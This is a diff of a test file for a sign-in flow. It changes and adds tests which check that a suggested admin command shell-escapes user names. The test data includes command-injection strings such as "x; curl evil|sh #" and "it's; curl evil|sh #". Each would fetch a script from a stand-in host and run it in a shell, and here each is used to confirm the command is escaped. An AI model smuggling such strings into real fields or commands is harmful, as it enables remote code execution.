@@ -89,7 +89,7 @@ describe('a first sign-in', () => {
     const refused = await logIn(BEN)
     expect(refused.status).toBe(401)
     const subject = `${provider.issuer} u-2`
-    expect(refused.body.detail).toContain(`posthorn user set --user ben --subject '${subject}'`)
+    expect(refused.body.detail).toContain(`posthorn user set --user='ben' --subject '${subject}'`)
     const owner = await logIn(ANNA)
     expect((await ask('PATCH', '/users/ben', { subject }, owner.cookie)).status).toBe(200)
     expect((await logIn(BEN)).status).toBe(200)
@@ -107,11 +107,17 @@ describe('a first sign-in', () => {
     expect((await link('dora@1', 'u-5')).body.detail).toContain('users of accounts do not')
   })
 
-  test('needs a name that is safe in a command', async () => {
-    for (const name of ['x; curl evil|sh #', 'a b', '-rf', "it's"]) {
-      const { status, body } = await logIn({ sub: `n-${name.length}`, name, groups: ['staff'] })
-      expect([status, body.detail]).toEqual([401, expect.stringContaining('your name at the provider')])
+  test('has a name by the rule for all users, and the command for a name that is taken is safe in a shell', async () => {
+    for (const name of ['a\u200bb', '..', 'x'.repeat(101), 'anna@7']) {
+      const { status } = await logIn({ sub: `n-${name.length}`, name, groups: ['staff'] })
+      expect(status).toBe(401)
     }
+    expect((await logIn({ sub: 'n-1', name: 'Jürgen Öztürk', groups: ['staff'] })).body.user).toBe('Jürgen Öztürk')
+    const name = "it's; curl evil|sh #"
+    await world.askAdmin('POST', '/users', { body: { user: name, role: 'finance' } })
+    expect((await logIn({ sub: 'n-2', name, groups: ['staff'] })).body.detail).toContain(
+      "posthorn user set --user='it'\\''s; curl evil|sh #' --subject '",
+    )
   })
 
   test('of two users with one name admits the first alone', async () => {
